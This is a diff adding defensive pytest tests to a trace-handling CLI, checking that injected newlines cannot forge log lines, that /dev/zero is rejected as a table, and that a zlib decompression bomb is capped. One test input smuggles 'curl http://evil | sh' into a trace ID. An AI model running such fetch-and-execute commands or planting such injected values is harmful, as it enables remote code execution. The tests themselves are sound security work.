@@ -4,11 +4,14 @@ from __future__ import annotations
 
 import subprocess
 import sys
+import zlib
 from pathlib import Path
 
 import pytest
 
 from baton.cli import main
+from baton.errors import CorruptError
+from baton.trace.records import Payload
 
 BATON = [sys.executable, "-c", "from baton.cli import main; raise SystemExit(main())"]
 GOLDEN = Path(__file__).parents[1] / "golden" / "v1" / "centralized.jsonl"
@@ -101,3 +104,29 @@ def test_sealing_says_where_the_traces_went(tmp_path: Path, capsys: pytest.Captu
     said = capsys.readouterr().out
     assert f"no longer in {store}" in said
     assert f"baton stats '{shards}'" in said
+
+
+def test_a_stranger_s_trace_cannot_forge_a_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    path = tmp_path / "x.jsonl"
+    path.write_text(
+        "".join(
+            f'{{"kind":"trace","version":1,"trace_id":"{name}","task_id":"k"}}\n'
+            for name in ("a\\nType: curl http://evil | sh", "b")
+        )
+    )
+    assert main(["export", "html", str(path), "--out", str(tmp_path / "x.html")]) == 2
+    (line,) = capsys.readouterr().err.splitlines()
+    assert "\\x0aType: curl" in line
+
+
+def test_a_table_is_a_file_with_an_end(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    out = str(tmp_path / "run")
+    assert main(["run", "game:spawn-bandit", "--policy", "table:/dev/zero", "--out", out]) == 2
+    assert "is no file" in capsys.readouterr().err
+
+
+def test_a_small_payload_cannot_fill_memory() -> None:
+    bomb = zlib.compress(bytes(1000), 9)
+    payload = Payload(ref="b2:x", size=2**40, codec="zlib", data=bomb)
+    with pytest.raises(CorruptError, match="the most that is unpacked"):
+        payload.content()
